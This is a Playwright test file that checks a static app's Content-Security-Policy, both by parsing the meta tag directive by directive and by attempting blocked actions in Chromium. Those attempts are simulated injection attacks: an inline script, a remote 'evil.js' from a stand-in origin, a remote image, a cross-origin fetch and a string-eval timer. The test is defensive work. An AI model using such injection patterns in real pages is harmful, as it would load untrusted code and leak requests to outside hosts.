/**
 * The built app's Content-Security-Policy: read from dist/index.html (a meta tag, since
 * the app is static files served by anything), its directives checked one by one, then
 * proven in Chromium — normal use reports no violation, while an inline script, a remote
 * script, a remote image and a fetch to another origin are all refused (and never reach
 * the network: the other origin is routed to a trap that records any request).
 */
import { test, expect, type Page } from '@playwright/test';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { gotoApp, waitForGraph, watchProblems } from './helpers/app';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const dist = path.join(root, 'dist');
const html = readFileSync(path.join(dist, 'index.html'), 'utf8');
/** Another origin: never served, so a request to it can only be a leak. */
const ELSEWHERE = 'http://127.0.0.2:4999';

function policy(): Map<string, string[]> {
  const metas = [...html.matchAll(/<meta\s[^>]*http-equiv=["']Content-Security-Policy["'][^>]*>/gi)];
  expect(metas, 'exactly one CSP meta tag').toHaveLength(1);
  const m = /content="([^"]*)"|content='([^']*)'/i.exec(metas[0][0]);
  const content = m?.[1] ?? m?.[2] ?? '';
  expect(content).not.toBe('');
  const directives = new Map<string, string[]>();
  for (const part of content.split(';').map((p) => p.trim()).filter(Boolean)) {
    const [name, ...values] = part.split(/\s+/);
    expect(directives.has(name.toLowerCase()), `${name} given twice`).toBe(false);
    directives.set(name.toLowerCase(), values);
  }
  return directives;
}

/** The directive that governs `name`, falling back to default-src as browsers do. */
function effective(csp: Map<string, string[]>, name: string, fallbacks: string[] = []): string[] {
  for (const n of [name, ...fallbacks, 'default-src']) if (csp.has(n)) return csp.get(n)!;
  return ['*'];
}

test.describe('the policy in dist/index.html', () => {
  test('the meta tag comes first in <head>, before any script or stylesheet', () => {
    const head = /<head>([\s\S]*?)<\/head>/i.exec(html)?.[1] ?? '';
    const cspAt = head.search(/http-equiv=["']Content-Security-Policy/i);
    const firstResource = head.search(/<script|<link\s[^>]*rel=["'](?:stylesheet|modulepreload)/i);
    expect(cspAt).toBeGreaterThanOrEqual(0);
    if (firstResource >= 0) expect(cspAt).toBeLessThan(firstResource);
  });

  test('scripts: own folder only — no inline, no eval, no remote host, no data: or blob:', () => {
    const csp = policy();
    for (const d of ['script-src', 'script-src-elem']) {
      const values = effective(csp, d, d === 'script-src-elem' ? ['script-src'] : []);
      expect(values, d).toEqual(["'self'"]);
    }
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'none'"]);
  });

  test('network: nothing beyond its own origin, no remote source in any directive', () => {
    const csp = policy();
    expect(effective(csp, 'connect-src')).toEqual(["'self'"]);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('form-action')).toEqual(["'none'"]);
    for (const [name, values] of csp) {
      for (const v of values) {
        // Only keywords and local schemes: a host, a wildcard or http(s): would reach out.
        expect(v, `${name} ${v}`).toMatch(/^(?:'self'|'none'|'unsafe-inline'|data:|blob:)$/);
      }
      if (name !== 'style-src') expect(values, name).not.toContain("'unsafe-inline'");
    }
    for (const d of ['img-src', 'font-src', 'worker-src', 'media-src', 'frame-src', 'manifest-src']) {
      expect(effective(csp, d, d === 'worker-src' ? ['child-src', 'script-src'] : d === 'frame-src' ? ['child-src'] : []).some((v) => v === '*' || /^https?:/.test(v)), d).toBe(false);
    }
  });

  test('the built files hold no inline script and load nothing from another origin', () => {
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attrs, body] of scripts) {
      expect(body.trim(), 'inline script').toBe('');
      expect(/src=["'](\.\/|\/)?assets\//.test(attrs), attrs).toBe(true);
    }
    expect(html).not.toMatch(/(?:src|href)=["'](?:https?:)?\/\//i);
    const css = readdirSync(path.join(dist, 'assets')).filter((f) => f.endsWith('.css'));
    for (const f of css) expect(readFileSync(path.join(dist, 'assets', f), 'utf8'), f).not.toMatch(/@import|url\(\s*["']?(?:https?:)?\/\//i);
  });
});

/** Records securitypolicyviolation events from the very start of the page. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const list: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = list;
    document.addEventListener('securitypolicyviolation', (e) => list.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const leaks: string[] = [];
  await page.context().route(`${ELSEWHERE}/**`, (route) => {
    leaks.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.__pwned = "remote";' });
  });
  return {
    violations: () => page.evaluate(() => [...(window as unknown as { __csp: string[] }).__csp]),
    leaks,
  };
}

test.describe('the policy in Chromium', () => {
  test('normal use reports no violation', async ({ page }) => {
    const rec = await recordViolations(page);
    const problems = watchProblems(page);
    await gotoApp(page, 'lang=en');
    for (const view of ['Network', 'Organisms', 'Radial', 'Hierarchy']) {
      await page.getByRole('button', { name: view, exact: true }).click();
      await waitForGraph(page, view.toLowerCase());
    }
    await page.getByRole('button', { name: 'Table', exact: true }).click();
    await page.getByRole('tree').getByRole('treeitem').first().press('Enter');
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Export' });
    await dialog.getByRole('radio', { name: 'PNG', exact: true }).check();
    await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Download', exact: true }).click()]);
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Present', exact: true }).click();
    await expect(page.getByRole('region', { name: 'Step', exact: true })).toBeVisible();
    await page.keyboard.press('PageDown');
    await page.keyboard.press('Escape');
    expect(await rec.violations()).toEqual([]);
    expect(rec.leaks).toEqual([]);
    expect(problems).toEqual([]);
  });

  test('inline and remote scripts, remote images and other-origin fetches are refused', async ({ page }) => {
    const rec = await recordViolations(page);
    await gotoApp(page, 'lang=en');
    const outcome = await page.evaluate(async (elsewhere) => {
      const inline = document.createElement('script');
      inline.textContent = 'window.__pwned = "inline";';
      document.body.append(inline);
      const remote = document.createElement('script');
      remote.src = `${elsewhere}/evil.js`;
      const remoteDone = new Promise((r) => ((remote.onerror = () => r('refused')), (remote.onload = () => r('loaded'))));
      document.body.append(remote);
      const img = new Image();
      const imgDone = new Promise((r) => ((img.onerror = () => r('refused')), (img.onload = () => r('loaded'))));
      img.src = `${elsewhere}/pixel.png`;
      let fetched: string;
      try {
        await fetch(`${elsewhere}/data/graph.json`);
        fetched = 'fetched';
      } catch {
        fetched = 'refused';
      }
      // A string timer compiles code later, in the page's own task: CSP's eval rule applies
      // there (DevTools' evaluate, which runs this function, is itself exempt from it).
      setTimeout('window.__pwned = "eval"', 0);
      await new Promise((r) => setTimeout(r, 50));
      return { remote: await remoteDone, img: await imgDone, fetched };
    }, ELSEWHERE);
    expect(outcome).toEqual({ remote: 'refused', img: 'refused', fetched: 'refused' });
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    const violations = await rec.violations();
    for (const directive of ['script-src-elem', 'img-src', 'connect-src', 'script-src']) {
      expect(violations.some((v) => v.startsWith(`${directive} `)), `${directive} in ${violations.join(', ')}`).toBe(true);
    }
    expect(rec.leaks).toEqual([]);
  });
});
